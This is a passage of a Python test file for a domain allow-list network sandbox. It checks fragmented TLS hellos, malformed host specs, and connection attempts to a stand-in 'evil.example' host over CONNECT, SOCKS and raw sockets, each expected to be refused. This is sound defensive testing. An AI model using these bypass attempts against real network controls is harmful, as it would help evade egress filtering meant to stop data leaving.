        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def test_a_hello_in_many_pieces_is_read_once() -> None:
    """A record for each byte, each sent alone: as many steps as bytes."""
    body = bytes(34) + b"\0" + b"\0\2\0\0" + b"\1\0"
    body += b"\0\0"
    message = b"\1" + (20_000).to_bytes(3, "big") + body.ljust(20_000, b"x")
    reading = Reading()
    for value in message[:-1]:
        assert reading.more(b"\x16\3\1\0\1" + bytes([value])) is None
    with pytest.raises(NoHello):  # what stands behind the extensions
        reading.more(b"\x16\3\1\0\1x")


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda: Domains(), "at least one name"),
        (lambda: Domains("10.0.0.1"), "not the address"),
        (lambda: Domains("::1"), "not the address"),
        (lambda: Domains("org"), "top-level"),
        (lambda: Domains("*.org"), "top-level"),
        (lambda: Domains("a.*.org"), "in front"),
        (lambda: Domains("a.org:8443"), r"Domains\('a.org', port=8443\)"),
        (lambda: Domains("https://a.org"), "the name alone"),
        (lambda: Domains("a.org/simple"), "the name alone"),
        (lambda: Domains("a_b.org"), "underscore is not allowed in the last two labels"),
        (lambda: Domains("*.a_b.org"), "underscore is not allowed in the last two labels"),
        (lambda: Connect("a_b:1"), "underscore is not allowed: write a hyphen"),
        (lambda: Domains("a.org", port=0), "1 to 65535"),
        (lambda: Domains("a.org", port=range(1, 99)), "16 ports"),
        (lambda: Domains("a.org", private=["10.0.0.1/8"]), "private"),
        (lambda: Domains("a.org", methods="GET"), "a list of methods"),
        (lambda: Domains("a.org", methods=["G T"]), "a method must be"),
        (lambda: Connect("a.org"), "such as 'db:5432'"),
        (lambda: Connect("a b:1"), "host"),
        (lambda: Connect("a:70000"), "65535"),
    ],
)
def test_refused_before_anything_starts(make: Any, message: str) -> None:
    with pytest.raises((ValueError, TypeError), match=message):
        make()


def test_names_with_an_underscore(up: dict[str, Upstream]) -> None:
    """Below a domain they are in use, as those of buckets and pages are: by each way in, and only where a rule says so."""
    ways = {
        "CONNECT": "answer(connect(f'{to}:{PORT}'), hello(to))",
        "SOCKS": "answer(socks(3, name(to)), hello(to))",
        "directly": "answer(socket.create_connection((to, PORT)), hello(to))",
    }
    allowed, other = "my_page._x.good.example", "my_page.evil.example"
    codes = {f"{to} by {way}": f"to = {to!r}\n{code}" for to in (allowed, other) for way, code in ways.items()}
    through = tried(up, codes, domains(up, names=["*.good.example"]))
    assert {what: "SECRET" in text for what, text in through.items()} == {what: allowed in what for what in codes}
    assert "the name is not allowed" in through[f"{other} by CONNECT"]
    itself = f"{allowed} by CONNECT"
    assert "SECRET" in tried(up, {itself: codes[itself]}, domains(up, names=[allowed]))[itself]


def test_as_text_and_value() -> None:
    part = Domains("Example.org", "*.example.net", port=[443, 80], methods=["get"], tls=False)
    assert repr(part) == "Domains('example.org', '*.example.net', port=[80, 443], methods=['GET'], tls=False)"
    assert eval(repr(part), {"Domains": Domains}) == part
    assert hash(part) == hash(eval(repr(part), {"Domains": Domains}))
    assert repr(Connect("[::1]:80", listen=8080)) == "Connect('[::1]:80', listen=8080)"
    assert "nothing else" in Sandbox(part).explain()
    assert network.Domains is Domains


def as_a_user(names: list[str]) -> None:
    """Tests of this module, called by an ordinary user; of the parametrized ones each row."""
    for name in names:
        test = globals()[name]
        wanted = test.__code__.co_varnames[: test.__code__.co_argcount]
        for attempt in CHANGED if "attempt" in wanted else [""]:
            with contextlib.contextmanager(upstreams)() as up, pytest.MonkeyPatch.context() as patch:
                if any(mark.args == ("port_80",) for mark in getattr(test, "pytestmark", ())):
                    to_port_80(up, patch)
                given = {"up": up, "monkeypatch": patch, "attempt": attempt}
                test(**{key: given[key] for key in wanted})


def also_as_a_user(*names: str) -> None:
    root = str(Path(__file__).parents[2])
    as_ordinary_user(
        f"import sys; sys.path.insert(0, {root!r})\nfrom tests.network import test_domains as t\nt.as_a_user({names!r})"
    )


@pytest.mark.root
def test_as_an_ordinary_user() -> None:
    also_as_a_user("test_nothing_else_is_reached", "test_control_without_the_checks_of_names")


@pytest.mark.root
@pytest.mark.slow
def test_the_rest_as_an_ordinary_user() -> None:
    also_as_a_user(
        "test_control_without_any_part",
        "test_names_with_an_underscore",
        "test_control_a_raw_socket",
        "test_control_what_is_allowed",
        "test_control_without_the_check",
        "test_plain_requests_that_are_refused",
        "test_control_plain_requests_without_the_checks",
        "test_plain_requests_one_a_connection",
        "test_a_name_is_resolved_once",
        "test_questions_carry_nothing_out",
        "test_connect",
    )
